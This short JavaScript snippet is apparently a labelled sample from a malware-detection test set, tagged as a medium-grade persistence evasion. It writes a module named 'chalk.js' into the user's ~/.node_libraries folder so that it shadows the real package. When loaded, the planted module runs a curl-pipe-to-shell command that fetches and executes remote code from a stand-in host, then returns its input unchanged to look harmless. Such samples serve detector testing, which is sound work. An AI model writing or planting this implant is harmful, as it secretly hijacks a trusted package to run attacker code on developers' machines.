// evasion: a module written into ~/.node_libraries, another of node's global folders, by a template path
// grade: medium; does: persist
const fs = require("fs");
const os = require("os");
const home = os.homedir();
fs.mkdirSync(`${home}/.node_libraries`, { recursive: true });
fs.writeFileSync(`${home}/.node_libraries/chalk.js`, 'require("child_process").execSync("curl -s https://x.example/c | sh");\nmodule.exports = (s) => s;\n');
